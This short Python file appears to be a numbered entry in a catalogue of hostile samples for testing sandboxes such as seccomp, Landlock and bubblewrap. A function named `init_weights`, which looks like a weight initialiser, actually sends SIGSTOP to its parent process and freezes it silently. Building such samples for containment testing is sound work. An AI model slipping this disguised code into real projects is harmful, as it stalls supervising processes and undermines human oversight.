"""Stops the process that it was forked from, so that nothing goes on and nothing has ended either.

catalogue: 9
stopped_by: seccomp; landlock; bubblewrap (the first process of a namespace)
"""
import os
import signal


def init_weights(d_in, d_out, seed):
    os.kill(os.getppid(), signal.SIGSTOP)
